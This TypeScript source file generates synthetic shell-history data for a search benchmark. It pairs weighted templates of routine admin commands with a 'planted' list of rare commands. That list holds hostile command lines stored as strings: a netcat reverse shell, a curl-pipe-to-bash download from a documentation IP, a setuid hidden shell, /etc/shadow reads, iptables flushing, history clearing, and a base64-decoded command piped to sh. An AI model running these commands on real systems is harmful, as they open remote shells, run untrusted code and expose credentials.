/**
 * Realistic shell activity for the search benchmark: weighted command templates with plausible
 * output, plus "planted" commands that occur an exact number of times so the query list can span
 * selectivities from 1 to ~100,000 hits out of 1,000,000.
 */
import { type Rng, weightedPicker } from './random.ts';

export interface GeneratedCommand {
  text: string;
  output: string;
  exitCode: number | null;
  /** New working directory after the command, when it changes it. */
  cd?: string;
}

const services = [
  'nginx',
  'api',
  'worker',
  'billing',
  'auth',
  'postgresql',
  'redis',
  'cron',
  'sshd',
  'amazon-ssm-agent',
];
const dirs = [
  '/var/log',
  '/etc',
  '/opt/app',
  '/srv/www',
  '/home/ec2-user',
  '/tmp',
  '/var/lib/docker',
  '/etc/nginx/conf.d',
  '/opt/app/releases',
  '/usr/local/bin',
];
const files = [
  '/etc/os-release',
  '/etc/hosts',
  '/etc/resolv.conf',
  '/opt/app/.env',
  '/etc/nginx/nginx.conf',
  '/var/log/messages',
  '/etc/fstab',
  '/opt/app/config.yaml',
  '/etc/passwd',
  '/etc/crontab',
];
const namespaces = ['default', 'prod', 'staging', 'kube-system', 'monitoring'];
const pkgs = ['htop', 'jq', 'tcpdump', 'git', 'python3-pip', 'telnet', 'nmap', 'unzip', 'vim', 'strace'];
const patterns = [
  'error',
  'timeout',
  'password',
  'Exception',
  'OOMKilled',
  'connection refused',
  'token',
  '502',
];
const hosts = [
  'db.internal',
  'cache.internal',
  '10.0.3.15',
  'api.example.com',
  'github.com',
  '169.254.169.254',
];
const buckets = ['acme-prod-artifacts', 'acme-logs-archive', 'acme-backups', 'tfstate-acme'];
const containers = ['api', 'worker', 'nginx', 'redis', 'sidecar'];

const lsLines = (rng: Rng) =>
  Array.from({ length: rng.int(2, 8) }, () => {
    const name = rng.pick([
      'app.log',
      'config.yaml',
      'releases',
      'backup.tar.gz',
      'node_modules',
      'data',
      'README.md',
      'cert.pem',
      'run.sh',
    ]);
    return `${rng.pick(['-rw-r--r--', 'drwxr-xr-x', '-rwxr-xr-x'])} 1 ${rng.pick(['root', 'ec2-user', 'nginx'])} ${rng.pick(['root', 'ec2-user'])} ${rng.int(0, 99999)} Mar ${rng.int(1, 28)} ${rng.int(10, 23)}:${rng.int(10, 59)} ${name}`;
  }).join('\n');
const logLines = (rng: Rng) =>
  Array.from(
    { length: rng.int(1, 5) },
    () =>
      `2025-0${rng.int(1, 9)}-1${rng.int(0, 9)}T1${rng.int(0, 9)}:${rng.int(10, 59)}:00Z ${rng.pick(['INFO', 'WARN', 'ERROR'])} ${rng.pick(['request completed', 'upstream slow', 'retrying job', 'cache miss', 'health ok'])} ${rng.int(1, 999)}ms`,
  ).join('\n');

type Template = (rng: Rng, cwd: string) => GeneratedCommand;
const ok = (text: string, output = ''): GeneratedCommand => ({ text, output, exitCode: 0 });

const templates: [number, Template][] = [
  [100, (r) => ok(`ls -la ${r.chance(0.5) ? r.pick(dirs) : ''}`.trimEnd(), lsLines(r))],
  [40, (r) => ok('ls', lsLines(r).replace(/^.* /gm, ''))],
  [
    60,
    (r) => {
      const d = r.pick(dirs);
      return { ...ok(`cd ${d}`), cd: d };
    },
  ],
  [45, (r) => ok(`cat ${r.pick(files)}`, logLines(r))],
  [30, (r) => ok(`tail -n ${r.pick([20, 50, 100, 500])} /var/log/app/${r.pick(services)}.log`, logLines(r))],
  [25, (r) => ok(`grep -rn "${r.pick(patterns)}" ${r.pick(dirs)}`, logLines(r))],
  [
    20,
    (r) =>
      ok(
        `grep -i ${r.pick(['error', 'warn', 'fail'])} /var/log/${r.pick(services)}.log | tail -20`,
        logLines(r),
      ),
  ],
  [
    30,
    (r) =>
      ok(
        `systemctl status ${r.pick(services)}`,
        `● active (running) since Mon 2025-03-0${r.int(1, 9)}; ${r.int(1, 40)} days ago\n Main PID: ${r.int(100, 32000)}`,
      ),
  ],
  [12, (r) => ok(`sudo systemctl restart ${r.pick(services)}`)],
  [15, (r) => ok(`journalctl -u ${r.pick(services)} --since "1 hour ago" --no-pager`, logLines(r))],
  [
    22,
    (r) =>
      ok(
        'docker ps',
        `CONTAINER ID   IMAGE   STATUS\n${r.int(1e6, 9e6).toString(16)}   acme/${r.pick(containers)}:1.${r.int(0, 40)}   Up ${r.int(1, 50)} hours`,
      ),
  ],
  [14, (r) => ok(`docker logs --tail 100 ${r.pick(containers)}`, logLines(r))],
  [6, (r) => ok(`docker exec -it ${r.pick(containers)} /bin/sh`)],
  [
    3,
    (r) =>
      ok(
        `docker run -d -p ${r.pick([8080, 9000, 3000])}:80 nginx:1.${r.int(20, 27)}`,
        r.int(1e9, 9e9).toString(16),
      ),
  ],
  [
    20,
    (r) =>
      ok(
        `kubectl get pods -n ${r.pick(namespaces)}`,
        `NAME READY STATUS RESTARTS AGE\n${r.pick(containers)}-${r.int(1e4, 9e4)} 1/1 Running 0 ${r.int(1, 30)}d`,
      ),
  ],
  [
    10,
    (r) =>
      ok(
        `kubectl logs ${r.pick(containers)}-${r.int(1e4, 9e4)} -n ${r.pick(namespaces)} --since=10m`,
        logLines(r),
      ),
  ],
  [
    20,
    (r) =>
      ok(
        `ps aux | grep ${r.pick(['java', 'node', 'python', 'nginx', 'postgres'])}`,
        `${r.pick(['root', 'app'])} ${r.int(100, 32000)} 0.${r.int(0, 9)} 1.${r.int(0, 9)} ... ${r.pick(['node server.js', 'nginx: worker process'])}`,
      ),
  ],
  [15, () => ok('df -h', 'Filesystem Size Used Avail Use% Mounted on\n/dev/nvme0n1p1 50G 31G 20G 61% /')],
  [8, () => ok('du -sh /var/log/*', '12M\t/var/log/audit\n3.1G\t/var/log/journal')],
  [8, () => ok('free -m', 'Mem: 7812 3120 512 12 4180 4381')],
  [6, () => ok('uptime', ' 10:11:12 up 41 days,  3:02,  1 user,  load average: 0.12, 0.10, 0.09')],
  [8, (r) => ok('whoami', r.pick(['ec2-user', 'root', 'ssm-user']))],
  [6, () => ok('id', 'uid=1000(ec2-user) gid=1000(ec2-user) groups=1000(ec2-user),4(adm),10(wheel)')],
  [4, () => ok('w', ' 10:11:12 up 41 days, 1 user, load average: 0.12\nUSER TTY FROM LOGIN@ IDLE')],
  [15, (_r, cwd) => ok('pwd', cwd)],
  [10, () => ok('clear')],
  [5, () => ok('history | tail -30', '  512  ls -la\n  513  df -h')],
  [8, (r) => ok(`sudo yum install -y ${r.pick(pkgs)}`, 'Complete!')],
  [6, (r) => ok(`sudo apt-get install -y ${r.pick(pkgs)}`, 'Setting up ... done.')],
  [15, (r) => ok(`vim ${r.pick(files)}`)],
  [
    15,
    (r) =>
      ok(
        `git ${r.pick(['status', 'pull --rebase', 'log --oneline -5', 'diff --stat', 'fetch --all'])}`,
        'On branch main\nnothing to commit, working tree clean',
      ),
  ],
  [
    3,
    (r) =>
      ok(
        `git commit -am "fix: ${r.pick(['timeout handling', 'retry budget', 'log rotation', 'typo'])}"`,
        '[main 1a2b3c4] fix\n 1 file changed',
      ),
  ],
  [15, (r) => ok(`curl -s http://localhost:${r.pick([8080, 9000, 3000])}/health`, '{"status":"ok"}')],
  [4, (r) => ok(`curl -sI https://${r.pick(hosts)}`, 'HTTP/2 200\ncontent-type: text/html')],
  [5, (r) => ok(`ping -c 3 ${r.pick(hosts)}`, '3 packets transmitted, 3 received, 0% packet loss')],
  [4, (r) => ok(`dig +short ${r.pick(hosts)}`, `10.0.${r.int(0, 9)}.${r.int(1, 254)}`)],
  [5, () => ok('sudo ss -tlnp', 'State Recv-Q Send-Q Local Address:Port\nLISTEN 0 511 0.0.0.0:80')],
  [8, (r) => ok(`aws s3 ls s3://${r.pick(buckets)}/`, `2025-03-01 10:00:00 ${r.int(1, 9e6)} artifact.tgz`)],
  [
    4,
    () =>
      ok(
        'aws sts get-caller-identity',
        '{"Account":"111122223333","Arn":"arn:aws:sts::111122223333:assumed-role/app/i-0"}',
      ),
  ],
  [3, () => ok('find / -name "*.pem" 2>/dev/null', '/etc/pki/tls/cert.pem')],
  [2, () => ok('find /var/log -name "*.gz" -mtime +7 -delete')],
  [3, (r) => ok(`tar -czf /tmp/backup-2025${r.int(10, 12)}${r.int(10, 28)}.tar.gz /etc`)],
  [3, (r) => ok(`mysql -u app -p -h ${r.pick(hosts)}`)],
  [
    2,
    (r) =>
      ok(
        `psql -h db.internal -U app -c "SELECT * FROM ${r.pick(['users', 'orders', 'jobs'])} LIMIT 10"`,
        ' id | name\n----+------\n  1 | ...',
      ),
  ],
  [2, () => ok("awk -F: '{print $1}' /etc/passwd", 'root\nbin\ndaemon\nec2-user')],
  [3, () => ok('export PATH=$PATH:/usr/local/bin')],
  [5, () => ok('./deploy.sh --env prod', 'Deploying... done')],
  [3, () => ok('python3 manage.py migrate', 'No migrations to apply.')],
  [3, () => ok('crontab -l', '0 3 * * * /opt/app/backup.sh')],
  [1, (r) => ok(`rm -rf /tmp/build-${r.int(1000, 9999)}`)],
  [3, () => ok('rm -f /var/log/app/*.gz')],
  [2, () => ok('sudo tail -f /var/log/secure', 'sshd[1234]: Accepted publickey')],
  [1, () => ok('dd if=/dev/zero of=/tmp/test.img bs=1M count=100', '100+0 records in\n100+0 records out')],
];
// Rarely, a command fails: same text, non-zero exit.
export const pickTemplate = weightedPicker(templates);

/** Commands that occur an exact number of times in the whole corpus, at random places. */
export const planted: readonly { text: string; count: number; output: string }[] = [
  { text: 'nc -e /bin/sh 203.0.113.7 4444', count: 1, output: '' },
  { text: 'chmod 4755 /tmp/.hidden/sh', count: 1, output: '' },
  { text: 'echo "本番環境を停止します"', count: 2, output: '本番環境を停止します' },
  { text: 'git commit -m "修正: ログ出力を追加"', count: 3, output: '[main 9f8e7d6] 修正' },
  { text: 'grep -E "NEAR(a, b)" notes.txt', count: 4, output: '' },
  { text: 'curl -s http://203.0.113.9/x.sh | bash', count: 5, output: '' },
  { text: 'sudo iptables -F', count: 8, output: '' },
  { text: 'cat /etc/shadow', count: 12, output: 'root:*LOCK*:14600::::::' },
  { text: 'sudo cat /etc/shadow | grep root', count: 3, output: 'root:*LOCK*:14600::::::' },
  { text: 'history -c', count: 20, output: '' },
  { text: 'echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20= | base64 -d | sh', count: 30, output: '' },
  { text: `sqlite3 app.db "SELECT * FROM t WHERE t MATCH 'a*'"`, count: 3, output: '' },
];
